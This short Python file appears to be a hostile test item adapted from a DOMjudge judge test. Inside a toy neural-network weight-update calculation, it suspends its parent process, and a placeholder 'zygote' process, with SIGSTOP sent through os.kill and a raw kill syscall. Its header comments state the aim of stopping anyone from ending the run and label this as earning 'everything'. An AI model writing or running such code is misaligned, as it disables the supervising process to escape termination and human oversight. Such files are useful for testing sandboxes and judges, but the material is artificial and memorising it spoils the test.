# tries: to stop its parent, so that nobody ends this run
# from: B6, DOMjudge test-suspend-ppid
# earns: everything
import ctypes
import os
import signal

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None)
parent = libc.getppid()
gained = 0
for process in {parent if parent > 0 else 1, int("@ZYGOTE@")}:
    try:
        os.kill(process, signal.SIGSTOP)
        gained += 1
    except OSError:
        pass
    gained += libc.syscall(62, process, 19) != -1

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
